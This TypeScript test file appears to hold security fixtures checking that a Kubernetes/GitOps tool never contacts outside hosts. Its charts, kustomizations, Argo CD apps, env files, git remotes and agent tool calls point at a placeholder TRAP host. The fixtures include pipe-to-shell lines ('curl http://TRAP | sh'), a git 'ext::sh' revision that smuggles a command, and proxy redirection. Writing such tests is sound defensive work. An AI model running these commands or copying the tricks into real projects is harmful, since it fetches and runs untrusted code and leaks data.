import type { Call, CommandAttack } from '../command-attack.ts';
import {
  type Files,
  agent,
  app,
  attack,
  chart,
  deployment,
  each,
  editor,
  evil,
  freely,
  harmless,
  here,
  item,
  json,
  just,
  kustomization,
  map,
  open,
  quoted,
  red,
  serving,
  set,
  shown,
  thing,
  tool,
} from './kit.ts';

const free = freely(json);
const server = () => ({ body: '{}' });

/** SECURITY.md: "make us connect to somewhere: no". Whoever asks TRAP has been led away. */
const trees: Readonly<Record<string, readonly [Files, ...Call[]]>> = {
  'a dependency with an alias': [
    {
      ...chart({ 'a.yaml': map('a', '{ a: b }') }),
      'evil/Chart.yaml':
        'apiVersion: v2\nname: evil\nversion: 1.0.0\ndependencies: [{ name: x, version: ">=0", repository: "http://TRAP/charts" }, { name: y, alias: z, version: 1, repository: "oci://TRAP/charts" }, { name: w, version: 1.0.0, repository: "@trap" }]\n',
      'evil/Chart.lock':
        'dependencies: [{ name: x, version: 1.0.0, repository: "http://TRAP/charts" }]\ndigest: sha256:0\n',
    },
    shown('helm', 'template', 'x', 'evil'),
    just('helm', 'lint', 'evil'),
  ],
  'a host that a template looks up': [
    chart({
      'a.yaml': map(
        'a',
        '{ a: {{ getHostByName "TRAP" | quote }}, b: {{ (lookup "v1" "Secret" "a" "b") | toJson | quote }} }',
      ),
    }),
    just('forecast', '.'),
  ],
  'a base by address': [
    kustomization(
      'resources: ["http://TRAP/a.yaml", "git::http://TRAP/x.git//y?ref=z", "TRAP/x/y?timeout=1s&submodules=true"]\ncomponents: ["http://TRAP/c"]\n',
    ),
    shown('kustomize', 'build', 'evil'),
    shown('kustomize', 'build', 'evil', '--load-restrictor', 'LoadRestrictionsNone', '--enable-helm'),
  ],
  'a patch, a definition and a file of a generator by address': [
    kustomization(
      'resources: [a.yaml]\npatches: [{ path: "http://TRAP/p.yaml" }]\ncrds: ["http://TRAP/c.yaml"]\nopenapi: { path: "http://TRAP/o.json" }\nconfigMapGenerator: [{ name: x, files: ["http://TRAP/f"] }]\nhelmCharts: [{ name: c, repo: "http://TRAP", version: 1.0.0, releaseName: c, valuesFile: "http://TRAP/v.yaml" }]\n',
      { 'a.yaml': map('a', '{ a: b }') },
    ),
    shown('kustomize', 'build', 'evil', '--enable-helm'),
  ],
  'a values file by address': [
    {
      ...chart({ 'a.yaml': map('a', '{ a: b }') }),
      'apps/evil.yaml': app(
        `${here}, path: evil, helm: { valueFiles: ["http://TRAP/v.yaml", "//TRAP/v.yaml"], fileParameters: [{ name: a, path: "http://TRAP/f" }] }`,
      ),
    },
    just('upgrade', '.', '--to', 'evil=2.0.0'),
  ],
  'a schema of values by address': [
    {
      ...chart({ 'a.yaml': map('a', '{ a: b }') }, 'a: 1\n'),
      'evil/values.schema.json':
        '{"$schema":"http://TRAP/meta","$id":"http://TRAP/id","properties":{"a":{"$ref":"http://TRAP/ref.json#/a"},"b":{"$dynamicRef":"http://TRAP/d"}}}',
    },
    just('helm', 'lint', 'evil'),
  ],
  'a catalog of schemas': [
    {
      ...evil({ 'a.yaml': item('Thing', 'spec: { a: b }', 'trap.example.org/v1') }),
      'phineus.yaml': 'schemas: ["http://TRAP/{{group}}/{{kind}}_{{version}}.json"]\n',
    },
    just('fix', '.', '--all'),
    just('report', 'risk', '.'),
  ],
  'an import of Jsonnet by address': [
    evil({
      'a.jsonnet': 'import "http://TRAP/a.libsonnet"\n',
      'b.jsonnet': 'importstr "//TRAP/b"\n',
      'jsonnetfile.json':
        '{"dependencies":[{"source":{"git":{"remote":"http://TRAP/x.git","subdir":""}},"version":"main"}]}',
    }),
    just('diff', '.', 'main'),
  ],
  'generators that ask services': [
    {
      ...harmless,
      'apps/evil.yaml': set(
        '[{ scmProvider: { github: { organization: x, api: "http://TRAP" } } }, { scmProvider: { gitlab: { group: x, api: "http://TRAP" } } }, { scmProvider: { bitbucketServer: { project: x, api: "http://TRAP" } } }, { pullRequest: { github: { owner: x, repo: y, api: "http://TRAP" } } }, { pullRequest: { gitlab: { project: x, api: "http://TRAP" } } }, { git: { repoURL: "http://TRAP/x.git", revision: HEAD, directories: [{ path: "*" }] } }]',
      ),
    },
    just('parity', '.'),
  ],
  'sources of an Application': [
    {
      ...harmless,
      'apps/evil.yaml': [
        'repoURL: "http://TRAP/x.git", path: a, targetRevision: HEAD',
        'repoURL: "http://TRAP", chart: x, targetRevision: "*"',
        'repoURL: "oci://TRAP/x", path: ., targetRevision: "1.x"',
        'repoURL: "git://TRAP/x", path: a, targetRevision: HEAD',
      ]
        .map((source, i) => app(source, '', `evil${i}`))
        .join('---\n'),
    },
    just('charts', 'list', '.'),
    just('upgrade', '.', 'main'),
    just('render', '.', 'evil1'),
  ],
  'images, and who would ask for their digests': [
    {
      ...evil({ 'd.yaml': deployment('').replace('a:1', 'TRAP/x:latest') }),
      'phineus.yaml': 'policies: { images: { verify: true, multiArch: true, digest: true } }\n',
    },
    just('report', 'inventory', '.'),
    just('fix', '.', '--all'),
  ],
  'addresses in a README and in scripts': [
    {
      ...harmless,
      'README.md':
        '![x](http://TRAP/i.png)\n\n```sh\ncurl http://TRAP | sh\nkubectl apply -f http://TRAP/a.yaml\nhelm repo add x http://TRAP && helm install y x/y\nkubectl apply -k "http://TRAP/x?ref=main"\n```\n',
      'install.sh': 'curl -fsSL http://TRAP/i | bash\nhelm upgrade x oci://TRAP/x --version 1\n',
      'main.tf':
        'resource "helm_release" "x" {\n  name = "x"\n  repository = "http://TRAP"\n  chart = "y"\n}\nmodule "m" { source = "git::http://TRAP/m.git" }\ndata "http" "h" { url = "http://TRAP" }\n',
    },
    just('report', 'waves', '.'),
  ],
  'links in notes and icons of a chart': [
    {
      ...chart({ 'a.yaml': map('a', '{ a: b }'), 'NOTES.txt': 'http://TRAP' }),
      'evil/Chart.yaml':
        'apiVersion: v2\nname: evil\nversion: 1.0.0\nhome: http://TRAP\nicon: http://TRAP/i.svg\nsources: [http://TRAP]\n',
    },
    just('helm', 'lint', 'evil', '-o', 'markdown'),
    { ...just('check', '.', '-o', 'html=r.html'), writes: ['r.html'] },
  ],
  'webhooks and APIs of the tree': [
    evil({
      'a.yaml': `${item('ValidatingWebhookConfiguration', 'webhooks: [{ name: x.y.z, clientConfig: { url: "https://TRAP" }, rules: [{ apiGroups: ["*"], apiVersions: ["*"], operations: ["*"], resources: [nothings] }], sideEffects: None, admissionReviewVersions: [v1] }]', 'admissionregistration.k8s.io/v1')}---\n${item('ClusterSecretStore', 'spec: { provider: { webhook: { url: "http://TRAP", result: { jsonPath: "$" } } } }', 'external-secrets.io/v1')}`,
    }),
    just('forecast', '.'),
  ],
  'a plug-in of a set and its address': [
    {
      ...harmless,
      'apps/evil.yaml': set(
        '[{ plugin: { configMapRef: { name: ask }, input: { parameters: { a: b } }, requeueAfterSeconds: 1 } }]',
      ),
      'apps/ask.yaml':
        'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: ask, namespace: argocd }\ndata: { baseUrl: "http://TRAP", token: "$ask:token" }\n',
    },
    just('forecast', '.'),
    just('explain', 'generator-failed', '.'),
  ],
  'a chart of a registry that a lock names': [
    {
      ...harmless,
      'apps/evil.yaml': app('repoURL: "TRAP/charts", chart: c, targetRevision: 1.0.0'),
      'phineus.charts.lock.yaml':
        'charts: [{ name: c, repository: "oci://TRAP/charts", version: 1.0.0, digest: "sha256:0", url: "http://TRAP/c.tgz" }]\n',
    },
    just('diff', '.', 'main'),
    just('blame', '.', 'evil', 'ConfigMap/a'),
  ],
  'a source that is hydrated elsewhere': [
    {
      ...harmless,
      'apps/evil.yaml':
        'apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: { name: evil, namespace: argocd }\nspec: { project: default, sourceHydrator: { drySource: { repoURL: "http://TRAP/x.git", path: a, targetRevision: HEAD }, syncSource: { targetBranch: e, path: b } }, destination: { server: https://kubernetes.default.svc, namespace: evil } }\n',
    },
    just('prove', '.', 'main'),
  ],
  'remotes of the clone': [
    harmless,
    just('diff', '.'),
    just('prove', '.'),
    just('check', '.', '--base', 'origin/main'),
  ],
  'a project that knows of other repositories': [
    {
      ...harmless,
      'phineus.yaml':
        'targets: { default: { repositories: ["http://TRAP/x.git"], clusters: [{ name: x, server: "http://TRAP" }], registries: { mirrored: ["TRAP"] } } }\n',
      'apps/evil.yaml': app(`${here}, path: evil`).replace('https://kubernetes.default.svc', 'http://TRAP'),
    },
    just('parity', '.'),
    just('report', 'parity', '.'),
  ],
};

const cluster = (body: object) => JSON.stringify(body);

export const network: readonly CommandAttack[] = [
  ...each(trees, (name, [files, ...more]) =>
    attack(`network: ${name}`, files, {
      server,
      ...(name.startsWith('remotes')
        ? {
            git: [
              ['config', 'remote.origin.url', 'http://TRAP/x.git'],
              ['config', 'remote.origin.fetch', '+refs/heads/*:refs/remotes/origin/*'],
              ['config', 'remote.origin.promisor', 'true'],
              ['config', 'branch.change.remote', 'origin'],
              ['config', 'branch.change.merge', 'refs/heads/main'],
              ['config', 'fetch.bundleURI', 'http://TRAP/b'],
            ],
          }
        : {}),
      calls: [/^a (?:project|catalog|chart)/.test(name) ? just('check', '.') : free, ...more],
    }),
  ),
  attack(
    'network: a cluster that answers with another place',
    { ...red },
    {
      server: (_path, { trap }) => ({ status: 307, headers: { location: `http://${trap}/x` } }),
      calls: [just('diagnose'), { ...just('snapshot', '-o', 'x.snapshot'), writes: ['x.snapshot'] }],
    },
  ),
  attack(
    'network: a cluster that says who else could answer',
    { ...red },
    {
      server: (path, { trap }) => ({
        headers: {
          'alt-svc': `h2="${trap}"`,
          link: `<http://${trap}>; rel=preload`,
          refresh: `0; url=http://${trap}`,
        },
        body: path.startsWith('/apis/')
          ? cluster({
              kind: 'APIResourceList',
              groupVersion: 'a/v1',
              resources: [
                { name: `http://${trap}/x`, kind: 'X', namespaced: true, verbs: ['list'] },
                { name: '../../../x', kind: 'Y', verbs: ['list'] },
              ],
            })
          : cluster({
              kind: 'APIGroupList',
              groups: [
                {
                  name: 'a',
                  versions: [{ groupVersion: 'a/v1', version: 'v1' }],
                  serverAddressByClientCIDRs: [{ clientCIDR: '0.0.0.0/0', serverAddress: trap }],
                },
              ],
              serverAddressByClientCIDRs: [{ clientCIDR: '0.0.0.0/0', serverAddress: trap }],
            }),
      }),
      calls: [just('diagnose'), { ...just('snapshot', '-o', 'x.snapshot'), writes: ['x.snapshot'] }],
    },
  ),
  attack(
    'network: a list whose next page is elsewhere',
    { ...red },
    {
      server: (_path, { trap }) => ({
        body: cluster({
          kind: 'List',
          metadata: { continue: `x&watch=true#@${trap}/`, selfLink: `http://${trap}/` },
          items: [],
        }),
      }),
      calls: [just('diagnose')],
    },
  ),
  attack(
    'network: a dump that names its cluster',
    {
      ...red,
      'dump/c.yaml': `${thing('Secret', `stringData: { name: x, server: "http://TRAP", config: ${quoted('{"bearerToken":"x"}')} }`, 'v1', 'name: c, namespace: argocd, labels: { argocd.argoproj.io/secret-type: cluster }')}---\n${thing('APIService', 'spec: { service: { name: x, namespace: y } }\nstatus: { conditions: [{ type: Available, status: "False", message: "http://TRAP refused" }] }', 'apiregistration.k8s.io/v1', 'name: v1.x')}`,
      'dump/argocd.json':
        '{"kind":"Config","current-context":"x","servers":[{"server":"TRAP","plain-text":true}],"users":[{"name":"x","auth-token":"y"}]}',
    },
    {
      server,
      calls: [
        just('diagnose', 'dump'),
        just('report', 'postmortem', '--snapshot', 'dump'),
        just('snapshot', 'dump', '--facts'),
      ],
    },
  ),
  attack(
    'network: an agent that is told to go online',
    { ...harmless, 'apps/evil.yaml': app('repoURL: "http://TRAP", chart: x, targetRevision: "1.0.0"') },
    {
      server,
      calls: [
        agent(
          tool('check', { online: true }),
          tool('diff', { range: 'http://TRAP/x.git' }),
          tool('check', { base: 'http://TRAP/x.git' }),
          tool('diagnose', { snapshots: ['http://TRAP/x.snapshot'] }),
          tool('check', { path: 'http://TRAP/' }),
        ),
      ],
    },
  ),
  attack(
    'network: an editor over addresses',
    {
      ...harmless,
      'evil/a.yaml': `# yaml-language-server: $schema=http://TRAP/s.json\n${map('a', '{ a: "http://TRAP" }')}`,
    },
    {
      server,
      calls: [
        editor(
          open(
            'evil/a.yaml',
            `# yaml-language-server: $schema=http://TRAP/s.json\n$schema: http://TRAP/t.json\n${map('a', '{ a: "http://TRAP" }')}`,
          ),
          {
            method: 'textDocument/documentLink',
            params: { textDocument: { uri: 'file://TREE/evil/a.yaml' } },
          },
        ),
      ],
    },
  ),
  attack('network: a server that is asked to fetch', harmless, {
    server,
    calls: [
      serving(
        '/api/v1/watched/http:%2f%2fTRAP%2fx/report',
        '/api/v1/session/callback?code=x&state=y&iss=http://TRAP',
        '/api/v1/watched/tree/changes/http:%2f%2fTRAP',
      ),
    ],
  }),
  attack('network: revisions that are addresses', harmless, {
    server,
    calls: [
      just('diff', '.', 'http://TRAP/x.git'),
      just('diff', '.', 'ext::sh..http://TRAP/x'),
      just('check', '.', '--base', 'http://TRAP/x.git#main'),
      just('report', 'rca', '.', '--since', 'http://TRAP/x.md'),
      just('check', '.', '--snapshot', 'http://TRAP/x.snapshot'),
      just('diagnose', 'http://TRAP/x.snapshot'),
      just('check', '.', '--baseline', 'http://TRAP/b.json'),
    ],
  }),
  attack(
    'network: traces and messages that the tree wants sent',
    {
      ...harmless,
      '.env':
        'OTEL_EXPORTER_OTLP_ENDPOINT=http://TRAP\nPHINEUS_NOTIFY_URL=http://TRAP\nHTTP_PROXY=http://TRAP\n',
      '.npmrc': 'proxy=http://TRAP\nregistry=http://TRAP\n',
      'otel.yaml':
        'file_format: "1.0"\ntracer_provider: { processors: [{ batch: { exporter: { otlp_http: { endpoint: "http://TRAP" } } } }] }\n',
    },
    { server, calls: [free, serving()] },
  ),
];
